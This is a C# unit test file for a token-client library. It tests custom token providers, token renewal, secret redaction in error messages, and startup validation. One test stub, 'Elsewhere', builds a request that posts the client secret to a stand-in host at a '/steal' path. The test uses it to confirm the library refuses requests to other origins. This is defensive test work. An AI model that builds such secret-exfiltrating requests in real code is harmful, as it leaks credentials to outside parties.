using System.Net;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;
using TokenClient.Tests.Attacks;
using TokenClient.Tests.TestSupport;

namespace TokenClient.Tests.CustomProviders;

/// <summary>A provider added by a test project, chosen from configuration, end to end through the handler on 127.0.0.1.</summary>
public sealed class CustomProviderTests
{
    private const string Secret = "acme-s3cret-Zq7";

    private static async Task<Hostile.Server> AcmeAsync(Func<int, IResult> tokenAnswer)
    {
        var issued = 0;
        var valid = new HashSet<string>();
        return await Hostile.StartAsync(app =>
        {
            app.MapPost("/v2/session", () =>
            {
                var number = Interlocked.Increment(ref issued);
                var answer = tokenAnswer(number);
                lock (valid)
                {
                    valid.Add($"acme-jwt-{number}");
                }

                return answer;
            });
            app.MapGet("/api/orders", (HttpContext context) =>
            {
                var bearer = context.Request.Headers.Authorization.ToString();
                lock (valid)
                {
                    return bearer.StartsWith("Bearer ", StringComparison.Ordinal) && valid.Remove(bearer[7..]) ? Results.Text("3 orders") : Results.StatusCode(419);
                }
            });
        });
    }

    private static ServiceProvider Container(Hostile.Server server, params (string Key, string Value)[] more)
    {
        var settings = new Dictionary<string, string?>
        {
            ["TokenClients:acme:Provider"] = "Acme",
            ["TokenClients:acme:TokenEndpoint"] = server.Url("/v2/session").AbsoluteUri,
            ["TokenClients:acme:ClientId"] = "acme-key",
            ["TokenClients:acme:ClientSecret"] = Secret,
            ["TokenClients:acme:Tenant"] = "north",
        };
        foreach (var (key, value) in more)
        {
            settings[$"TokenClients:acme:{key}"] = value;
        }

        var services = new ServiceCollection();
        services.AddTokenProvider(new AcmeProvider());
        services.AddTokenClients(new ConfigurationBuilder().AddInMemoryCollection(settings).Build().GetSection("TokenClients"));
        services.AddHttpClient("orders", c => c.BaseAddress = server.Address).AddTokenHandler("acme");
        var container = services.BuildServiceProvider();
        container.GetRequiredService<IStartupValidator>().Validate();
        return container;
    }

    [Fact]
    public async Task AProviderOfTheTestProject_FromConfiguration_WorksThroughTheHandler_AndItsRejectionRenewsAndResends()
    {
        await using var server = await AcmeAsync(n => Results.Json(new { result = new { jwt = $"acme-jwt-{n}", ttl = 600 } }));
        await using var container = Container(server);
        var http = container.GetRequiredService<IHttpClientFactory>().CreateClient("orders");

        (await http.GetStringAsync("/api/orders")).Should().Be("3 orders");
        (await http.GetStringAsync("/api/orders")).Should().Be("3 orders", "the first token was used up: Acme's 419 renews it and the request is resent");

        var tokenRequests = server.Requests.Where(r => r.PathAndQuery == "/v2/session").ToList();
        tokenRequests.Should().HaveCount(2);
        tokenRequests[0].Body.Should().Be($$"""{"key":"acme-key","secret":"{{Secret}}","realm":"north"}""");
        var token = await container.GetRequiredKeyedService<ITokenClient>("acme").GetTokenAsync();
        token.Value.Should().Be("acme-jwt-2");
        (token.ExpiresAt - DateTimeOffset.UtcNow).Should().BeCloseTo(TimeSpan.FromSeconds(600), TimeSpan.FromSeconds(60));
    }

    [Fact]
    public async Task ItsFailure_ComesOutRedacted_EvenWhenTheServerEchoesTheSecret()
    {
        await using var server = await AcmeAsync(_ => Results.Json(new { fault = "BAD_KEY", detail = $"no key acme-key with secret {Secret}" }, statusCode: 403));
        await using var container = Container(server);

        var thrown = (await container.GetRequiredKeyedService<ITokenClient>("acme").Invoking(c => c.GetTokenAsync().AsTask()).Should().ThrowAsync<TokenRequestException>()).Which;

        thrown.Error.Should().Be("BAD_KEY");
        thrown.Message.Should().Contain("HTTP 403").And.Contain("[redacted]").And.NotContain(Secret);
        thrown.ErrorDescription.Should().NotContain(Secret);
        thrown.IsTransient.Should().BeFalse();
    }

    [Theory]
    [InlineData("""{"result":{"jwt":"has space","ttl":600}}""", "access_token has a character that RFC 6750 does not allow")]
    [InlineData("""{"result":{"jwt":"ok","ttl":0}}""", "expires_in must be a positive number of seconds, not 0")]
    [InlineData("""<html>""", "the token provider 'Acme' could not read the answer (JsonReaderException)")]
    public async Task ItsAnswer_IsCheckedAsTheBuiltInProvidersAre(string body, string problem)
    {
        await using var server = await AcmeAsync(_ => Results.Text(body, "application/json"));
        await using var container = Container(server, ("MaxRetries", "0")); // the message is the point, not the retries (real seconds)

        var thrown = (await container.GetRequiredKeyedService<ITokenClient>("acme").Invoking(c => c.GetTokenAsync().AsTask()).Should().ThrowAsync<TokenRequestException>()).Which;

        thrown.Message.Should().Contain(problem);
    }

    [Fact]
    public void StartUp_ItsOwnRules_AndAnUnknownProvider_AreReported()
    {
        var services = new ServiceCollection();
        services.AddTokenProvider(new AcmeProvider());
        services.AddTokenClient("acme", o =>
        {
            o.Provider = "acme";
            o.ClientId = "k";
            o.ClientSecret = "s";
        });
        services.AddTokenClient("typo", o =>
        {
            o.Provider = "Acmee";
            o.ClientId = "k";
            o.ClientSecret = "s";
        });
        using var container = services.BuildServiceProvider();

        var act = () => container.GetRequiredService<IStartupValidator>().Validate();

        act.Should().Throw<OptionsValidationException>().Which.Failures.Should().Equal(
            "Token client 'acme': Tenant is required when Provider is 'Acme': it is the Acme realm.",
            "Token client 'typo': Provider 'Acmee' is not known; use one of Generic, LoneWolf, Wll, Apimw, Login3, Wokelo, Acme (or add it with services.AddTokenProvider).");
    }

    [Fact]
    public void StartUp_AProviderNamedAsABuiltInOne_OrAddedTwice_IsReported()
    {
        var services = new ServiceCollection();
        services.AddTokenProvider(new AcmeProvider());
        services.AddTokenProvider(new AcmeProvider());
        services.AddTokenProvider(new Impostor());
        services.AddTokenClient("api", o =>
        {
            o.TokenEndpoint = new Uri("https://auth.test/token");
            o.ClientId = "k";
            o.ClientSecret = "s";
        });
        using var container = services.BuildServiceProvider();

        var act = () => container.GetRequiredService<IStartupValidator>().Validate();

        act.Should().Throw<OptionsValidationException>().Which.Failures.Should().Equal(
            "Token provider 'Acme' (AcmeProvider) is added twice or has the name of a built-in provider; give it a name of its own.",
            "Token provider 'generic' (Impostor) is added twice or has the name of a built-in provider; give it a name of its own.");
    }

    [Fact]
    public async Task ARequestToAnotherOrigin_OrAProviderThatThrows_IsRefusedBeforeAnythingIsSent()
    {
        await using var server = await AcmeAsync(_ => Results.Json(new { result = new { jwt = "never", ttl = 600 } }));
        var elsewhere = new Elsewhere();
        foreach (var (provider, expected) in new (TokenProvider, string)[]
        {
            (elsewhere, "Token client 'rogue': the token provider 'Elsewhere' built a request to another origin than " + server.Address.GetLeftPart(UriPartial.Authority) + "; it was not sent."),
            (new Relative(), "Token client 'rogue': the token provider 'Relative' built a request without an absolute URI; it was not sent."),
            (new Throwing(), "Token client 'rogue': the token provider 'Throwing' could not build the request: InvalidOperationException: no realm for " + "[redacted]."),
        })
        {
            var services = new ServiceCollection();
            services.AddTokenProvider(provider);
            services.AddTokenClient("rogue", o =>
            {
                o.Provider = provider.Name;
                o.TokenEndpoint = server.Url("/v2/session");
                o.ClientId = "id";
                o.ClientSecret = Secret;
                o.MaxRetries = 0;
            });
            await using var container = services.BuildServiceProvider();

            var thrown = (await container.GetRequiredKeyedService<ITokenClient>("rogue").Invoking(c => c.GetTokenAsync().AsTask()).Should().ThrowAsync<TokenRequestException>()).Which;

            thrown.Message.Should().Be(expected);
            thrown.IsTransient.Should().BeFalse();
        }

        server.Requests.Should().BeEmpty();
        await elsewhere.Built!.Content!.Invoking(c => c.ReadAsStringAsync()).Should().ThrowAsync<ObjectDisposedException>("a request refused is disposed, its content with it");
    }

    [Fact]
    public void TheProvidersApi_RefusesBadArguments_AndHasRfc6749sDefaults()
    {
        var blank = () => new Named(" ");
        blank.Should().Throw<ArgumentException>().WithParameterName("name");
        var provider = new Named("x");
        provider.IsTokenRejected(HttpStatusCode.Unauthorized).Should().BeTrue();
        provider.IsTokenRejected(HttpStatusCode.Forbidden).Should().BeFalse();
        provider.Invoking(p => p.ReadResponse(null!)).Should().Throw<ArgumentNullException>().WithParameterName("answer");
        new TokenProviderResponse("secret-token", TimeSpan.FromMinutes(5)).ToString().Should().Be("token response, lifetime 00:05:00").And.NotContain("secret-token");
        new TokenProviderResponse("secret-token").ToString().Should().Be("token response, lifetime unknown");
    }

    [Fact]
    public async Task AnswerFailure_WithoutAnError_IsRefused()
    {
        await using var server = await AcmeAsync(_ => Results.Json(new { fault = "" }, statusCode: 400));
        await using var container = Container(server, ("MaxRetries", "0"));

        var thrown = (await container.GetRequiredKeyedService<ITokenClient>("acme").Invoking(c => c.GetTokenAsync().AsTask()).Should().ThrowAsync<TokenRequestException>()).Which;

        thrown.Message.Should().Contain("could not read the answer (ArgumentException)", "Failure needs an error code");
    }

    private sealed class Named(string name) : TokenProvider(name)
    {
        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => new(HttpMethod.Post, request.Endpoint);
    }

    private sealed class Elsewhere() : TokenProvider("Elsewhere")
    {
        public HttpRequestMessage? Built { get; private set; }

        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) =>
            Built = new(HttpMethod.Post, "https://collector.example.test/steal") { Content = new StringContent(request.Options.ClientSecret!) };
    }

    private sealed class Relative() : TokenProvider("Relative")
    {
        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => new(HttpMethod.Post, new Uri("/v2/session", UriKind.Relative));
    }

    private sealed class Throwing() : TokenProvider("Throwing")
    {
        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => throw new InvalidOperationException("no realm for " + request.Options.ClientSecret);
    }

    private sealed class Impostor() : TokenProvider("generic")
    {
        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => new(HttpMethod.Post, request.Endpoint);
    }
}
